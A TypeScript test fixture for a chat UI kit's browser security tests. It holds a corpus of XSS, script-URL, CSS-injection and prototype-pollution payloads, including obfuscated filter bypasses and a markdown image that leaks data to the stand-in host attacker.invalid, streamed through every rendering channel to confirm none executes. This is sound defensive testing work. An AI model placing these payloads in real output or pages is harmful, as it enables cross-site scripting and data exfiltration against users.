/**
 * The `hostile` scenario, for the browser security tests: a corpus of XSS, URL-scheme, CSS-injection and
 * prototype-pollution payloads streamed through every channel the kit renders. Each payload that ever ran
 * would set `window.__pwned = '<id>'` or request `/pwned?<id>`, so a test can tell exactly which one got through.
 */
import type { ContentBlock } from '../core'
import { say, think, type ModelChunk, type Scenario, type ScriptedTool, type ToolChunk } from './scenario'

/** Where a payload travels. */
export type HostileChannel =
  'text' | 'thinking' | 'hint' | 'tool-name' | 'tool-argument' | 'tool-result-text' | 'tool-result-data' | 'data-block' | 'subagent'

/** One payload of the corpus; `id` is what it would write into `window.__pwned` or `/pwned?…`. */
export interface HostilePayload {
  readonly id: string
  readonly channel: HostileChannel
  readonly payload: string
}

// What a payload runs if it ever executes: set the flag, or tell the server.
const flag = (id: string) => `window.__pwned='${id}'`
const beacon = (id: string) => `fetch('/pwned?${id}')`
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64')

type Maker = (id: string) => string

// Markdown and raw HTML a model (or a prompt injection) might write.
const TEXT: readonly Maker[] = [
  (id) => `<script>${flag(id)}</script>`,
  (id) => `<img src=x onerror="${flag(id)}">`,
  (id) => `<svg onload="${beacon(id)}"><circle r="4"/></svg>`,
  (id) => `<svg><script>${flag(id)}</script></svg>`,
  (id) => `[${id} javascript link](javascript:${flag(id)})`,
  (id) => `[${id} javascript call](javascript:${beacon(id)})`,
  (id) => `[${id} vbscript](vbscript:msgbox("${id}"))`,
  (id) => `[${id} data html](data:text/html,<script>${flag(id)}</script>)`,
  (id) => `[${id} data base64](data:text/html;base64,${base64(`<script>${flag(id)}</script>`)})`,
  (id) => `[${id} decimal entity](&#106;avascript:${flag(id)})`,
  (id) => `[${id} hex entity](&#x6A;&#x61;vascript:${flag(id)})`,
  (id) => `[${id} named colon](javascript&colon;${flag(id)})`,
  (id) => `[${id} tab entity](java&Tab;script:${flag(id)})`,
  (id) => `[${id} numeric tab](java&#9;script:${flag(id)})`,
  (id) => `[${id} literal tab](java\tscript:${flag(id)})`,
  (id) => `[${id} mixed case](JaVaScRiPt:${flag(id)})`,
  (id) => `[${id} angle destination](< javascript:${flag(id)}>)`,
  (id) => `[${id} zero width](\u200bjavascript:${flag(id)})`,
  (id) => `[${id} newline](java\nscript:${flag(id)})`,
  (id) => `<javascript:${flag(id)}>`,
  (id) => `[${id} reference][evil-${id}]\n\n[evil-${id}]: javascript:${flag(id)}`,
  (id) => `[${id} title](https://example.invalid/ "x\\" onmouseover=\\"${flag(id)}")`,
  (id) => `![${id} javascript image](javascript:${flag(id)})`,
  (id) => `![${id} svg image](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${flag(id)}"/>`)})`,
  (id) => `![${id} html image](data:text/html;base64,${base64(`<script>${flag(id)}</script>`)})`,
  (id) => `![${id} vbscript image](vbscript:${flag(id)})`,
  (id) => `![${id}" onerror="${flag(id)}](data:image/png;base64,iVBORw0KGgo=)`,
  (id) => `<style>body{background:url("/pwned?${id}")}</style>`,
  (id) => `<div style="background-image:url('/pwned?${id}')">${id} styled</div>`,
  (id) => `<link rel="stylesheet" href="/pwned?${id}">`,
  (id) => `<iframe src="javascript:${flag(id)}"></iframe>`,
  (id) => `<iframe srcdoc="<script>parent.__pwned='${id}'</script>"></iframe>`,
  (id) => `<object data="javascript:${flag(id)}"></object>`,
  (id) => `<embed src="data:text/html;base64,${base64(`<script>${beacon(id)}</script>`)}">`,
  (id) => `<form action="javascript:${flag(id)}"><button>${id} submit</button></form>`,
  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${flag(id)}">`,
  (id) => `<base href="javascript:${flag(id)}//">`,
  (id) => `{{constructor.constructor('${flag(id)}')()}}`,
  (id) => `\${${flag(id)}}`,
  (id) => `<a href="javascript:${flag(id)}">${id} raw anchor</a>`,
  (id) => `<details open ontoggle="${flag(id)}"><summary>${id}</summary></details>`,
  (id) => `<input autofocus onfocus="${flag(id)}">`,
  (id) => `<body onload="${flag(id)}">`,
  (id) => `<video><source onerror="${flag(id)}"></video>`,
  (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${flag(id)}"></style></mglyph></table></mtext></math>`,
  (id) => `<!--<img src="--><img src=x onerror="${flag(id)}">`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${flag(id)}>"></p></noscript>`,
  (id) => `<svg><a xlink:href="javascript:${flag(id)}"><text y="10">${id}</text></a></svg>`,
  (id) => `| ${id} | <img src=x onerror="${flag(id)}"> |\n|---|---|\n| [cell](javascript:${flag(id)}) | x |`,
  (id) => `\`<img src=x onerror="${flag(id)}">\``,
  (id) => `\`\`\`"><img src=x onerror="${flag(id)}">\n</code></pre><script>${flag(id)}</script>\n\`\`\``,
  (id) => `www.example.invalid/"><script>${flag(id)}</script>`,
  (id) => `[__proto__]: javascript:${flag(id)}\n\n[${id} proto reference][__proto__]`,
  (id) => `<img src=x onerror="setTimeout('${flag(id).replace(/'/g, "\\'")}')">`,
  (id) => `<img src=x onerror="&#x77;indow.__pwned='${id}'">`,
  // not script: a remote image the model chose, which leaks whatever its URL carries (prompt-injection exfiltration)
  (id) => `![${id} remote image](https://attacker.invalid/collect?leak=${id})`,
]

const THINKING: readonly Maker[] = [
  (id) => `<script>${flag(id)}</script>`,
  (id) => `<img src=x onerror="${beacon(id)}">`,
  (id) => `[${id}](javascript:${flag(id)})`,
  (id) => `{{constructor.constructor('${flag(id)}')()}}`,
]

const HINTS: readonly Maker[] = [
  (id) => `<img src=x onerror="${flag(id)}">`,
  (id) => `[${id}](javascript:${flag(id)}) <script>${beacon(id)}</script>`,
]

const RESULT_TEXT: readonly Maker[] = [
  (id) => `<script>${flag(id)}</script>`,
  (id) => `[${id}](javascript:${flag(id)}) <iframe src="javascript:${beacon(id)}">`,
  (id) => `<img src=x onerror="${flag(id)}">`,
]

// The ids are handed out in this order: text, thinking, hints, tool names, arguments, results, data, subagent.
let serial = 0
const nextId = () => `H${String(++serial).padStart(3, '0')}`
const made = (channel: HostileChannel, makers: readonly Maker[]) =>
  makers.map((make): HostilePayload => {
    const id = nextId()
    return { id, channel, payload: make(id) }
  })

const TEXT_PAYLOADS = made('text', TEXT)
const THINKING_PAYLOADS = made('thinking', THINKING)
const HINT_PAYLOADS = made('hint', HINTS)
// "agent" in the first name makes the kit nest the subagent's lane in its card (core/turns.ts `SPAWNING_TOOL`)
const [STREAMING_TOOL, PLAIN_TOOL] = made('tool-name', [(id) => `agent<img src=x onerror="${flag(id)}">`, (id) => `javascript:${flag(id)}`]) as [
  HostilePayload,
  HostilePayload,
]
const ARGUMENTS = made('tool-argument', [
  (id) => `<img src=x onerror="${flag(id)}">`,
  (id) => `<script>${beacon(id)}</script>`,
  (id) => `javascript:${flag(id)}`,
  (id) => `{{constructor.constructor('${flag(id)}')()}}`,
  (id) => `<svg onload="${flag(id)}">`,
]) as [HostilePayload, HostilePayload, HostilePayload, HostilePayload, HostilePayload]
// sent as `"__proto__": {"polluted": id}` and `"constructor": {"prototype": {"polluted": id}}`
const POLLUTION = made('tool-argument', [(id) => id, (id) => id]) as [HostilePayload, HostilePayload]
const RESULT_TEXT_PAYLOADS = made('tool-result-text', RESULT_TEXT)
const RESULT_DATA = made('tool-result-data', [
  (id) => `<script>${flag(id)}</script>`,
  (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${flag(id)}"/>`,
  (id) => `javascript:${flag(id)}`,
  (id) => `data:text/html,<script>${flag(id)}</script>`,
  (id) => ` vbscript:${flag(id)}`,
  (id) => `<script>${beacon(id)}</script>`,
  (id) => `<script>${flag(id)}</script>`,
  (id) => `<script>${flag(id)}</script><b>${id}</b>`,
])
const DATA_BLOCKS = made('data-block', [
  (id) => `data:text/html;base64,${base64(`<script>${flag(id)}</script>`)}`,
  (id) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${flag(id)}"/>`)}`,
  (id) => `javascript:${flag(id)}`,
])
const SUBAGENT = made('subagent', [(id) => `<img src=x onerror="${flag(id)}">`, (id) => `<script>${beacon(id)}</script>`]) as [
  HostilePayload,
  HostilePayload,
]

/** Every payload of the `hostile` scenario, with its channel. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...TEXT_PAYLOADS,
  ...THINKING_PAYLOADS,
  ...HINT_PAYLOADS,
  STREAMING_TOOL,
  PLAIN_TOOL,
  ...ARGUMENTS,
  ...POLLUTION,
  ...RESULT_TEXT_PAYLOADS,
  ...RESULT_DATA,
  ...DATA_BLOCKS,
  ...SUBAGENT,
]

/** The last words of the turn: once shown, everything has streamed. */
export const HOSTILE_DONE = 'End of the hostile corpus.'

// Keys and values both hostile, plus the two classic prototype-pollution keys.
const HOSTILE_ARGUMENTS = JSON.stringify({
  [ARGUMENTS[0].payload]: ARGUMENTS[1].payload,
  href: ARGUMENTS[2].payload,
  [ARGUMENTS[3].payload]: { nested: ARGUMENTS[4].payload },
}).replace(/}$/, `,"__proto__":{"polluted":"${POLLUTION[0].id}"},"constructor":{"prototype":{"polluted":"${POLLUTION[1].id}"}}}`)

const [HTML_DATA, SVG_DATA, JS_URL, HTML_URL, VB_URL, PROTO_TYPE, CONSTRUCTOR_TYPE, UNKNOWN_BLOCK] = RESULT_DATA as [
  HostilePayload,
  HostilePayload,
  HostilePayload,
  HostilePayload,
  HostilePayload,
  HostilePayload,
  HostilePayload,
  HostilePayload,
]

// Media a tool returns: active content types, script URLs, and media types that are Object.prototype keys.
const RESULT_BLOCKS: readonly ContentBlock[] = [
  {
    type: 'data',
    source: { type: 'base64', media_type: 'text/html', data: base64(HTML_DATA.payload) },
    name: `${HTML_DATA.id} <img src=x onerror="${flag(HTML_DATA.id)}">.html`,
  },
  { type: 'data', source: { type: 'base64', media_type: 'image/svg+xml', data: base64(SVG_DATA.payload) }, name: `${SVG_DATA.id}.svg` },
  { type: 'data', source: { type: 'url', url: JS_URL.payload, mime_type: 'image/png' }, name: `${JS_URL.id} javascript image` },
  { type: 'image', source: { type: 'url', url: HTML_URL.payload }, name: `${HTML_URL.id} data html image` },
  { type: 'video', source: { type: 'url', url: VB_URL.payload }, name: `${VB_URL.id} vbscript video` },
  { type: 'data', source: { type: 'base64', media_type: '__proto__', data: base64(PROTO_TYPE.payload) }, name: `${PROTO_TYPE.id} __proto__ type` },
  {
    type: 'data',
    source: { type: 'base64', media_type: 'constructor', data: base64(CONSTRUCTOR_TYPE.payload) },
    name: `${CONSTRUCTOR_TYPE.id} constructor type`,
  },
  // a block type the kit does not know: shown as JSON
  { type: 'html', html: UNKNOWN_BLOCK.payload } as unknown as ContentBlock,
]

const [STREAMED_TEXT, STREAMED_LINK, FINAL_TEXT] = RESULT_TEXT_PAYLOADS as [HostilePayload, HostilePayload, HostilePayload]

// Streams text, a nested hostile subagent and media while it runs.
const STREAMING: ScriptedTool = {
  run: (_input, context) => {
    const source = `${context.sessionId}/${SUBAGENT[1].payload}`
    const replyId = context.ids.hex()
    const child = (at: number, type: string, fields: Record<string, unknown>): ToolChunk => ({ at, event: { type, fields, source } })
    return {
      chunks: [
        { at: 1, text: `${STREAMED_TEXT.payload}\n`, metadata: { [STREAMED_TEXT.payload]: STREAMED_TEXT.payload } },
        { at: 2, text: `${STREAMED_LINK.payload}\n` },
        child(3, 'AGENT_START', { sessionId: `sub-${context.ids.uuid()}`, name: SUBAGENT[0].payload, role: 'assistant' }),
        child(4, 'MODEL_CALL_START', { replyId }),
        child(5, 'TEXT_BLOCK_START', { replyId, blockId: 'text' }),
        child(6, 'TEXT_BLOCK_DELTA', {
          replyId,
          blockId: 'text',
          delta: `${SUBAGENT[0].id} says ${SUBAGENT[0].payload} from ${SUBAGENT[1].payload}`,
        }),
        child(7, 'TEXT_BLOCK_END', { replyId, blockId: 'text' }),
        child(8, 'MODEL_CALL_END', { replyId, usage: { inputTokens: 1, outputTokens: 1, cachedTokens: 0, time: 0.25, totalTokens: 2 } }),
        child(9, 'AGENT_END', {}),
        ...RESULT_BLOCKS.slice(0, 4).map((data, index): ToolChunk => ({ at: 10 + index, data })),
      ],
    }
  },
}

// Returns everything at the end, through TOOL_RESULT_*_DELTA after the run.
const PLAIN: ScriptedTool = {
  run: () => ({ output: [{ type: 'text', text: FINAL_TEXT.payload }, ...RESULT_BLOCKS.slice(4)], duration: 4 }),
}

// Model output cut into two-word deltas, so tags and links arrive split across deltas.
function modelChunks(): ModelChunk[] {
  // each marker is a paragraph of its own, so fences, tables and definitions start a line as they must
  const text = TEXT_PAYLOADS.map((entry) => `⟦${entry.id}⟧\n\n${entry.payload}\n\n`).join('')
  const dataChunks = DATA_BLOCKS.flatMap((entry, index): ModelChunk[] => {
    const middle = Math.ceil(entry.payload.length / 2)
    return [entry.payload.slice(0, middle), entry.payload.slice(middle)].map((delta) => ({
      kind: 'data',
      block: `hostile-${index}`,
      delta,
      mediaType: 'text/html',
    }))
  })
  return [
    ...think(THINKING_PAYLOADS.map((entry) => `⟦${entry.id}⟧ ${entry.payload}`).join('\n'), 2),
    ...say(text, 2),
    ...dataChunks,
    ...[STREAMING_TOOL, PLAIN_TOOL].flatMap((tool, index): ModelChunk[] => {
      const middle = Math.ceil(HOSTILE_ARGUMENTS.length / 2)
      return [HOSTILE_ARGUMENTS.slice(0, middle), HOSTILE_ARGUMENTS.slice(middle)].map((delta) => ({
        kind: 'tool',
        call: `hostile-${index}`,
        name: tool.payload,
        delta,
        fragmentName: tool.payload,
      }))
    }),
  ]
}

/** Hostile payloads through text, thinking, hints, tool names, arguments, results, media and a subagent. */
export const HOSTILE: Scenario = {
  name: 'hostile',
  keyword: 'hostile',
  description:
    'A security corpus: XSS, script URLs, CSS injection and prototype-pollution keys through every channel ' +
    '(text, thinking, hints, tool names, arguments and results, media, a subagent). Nothing may run.',
  tools: { [STREAMING_TOOL.payload]: STREAMING, [PLAIN_TOOL.payload]: PLAIN },
  hints: (step) =>
    step.index > 0 ? [] : HINT_PAYLOADS.map((entry) => ({ hintSource: `${entry.id} ${entry.payload}`, hint: `⟦${entry.id}⟧ ${entry.payload}` })),
  reason: (step) => (step.index === 0 ? { chunks: modelChunks() } : { chunks: say(HOSTILE_DONE, 2) }),
}
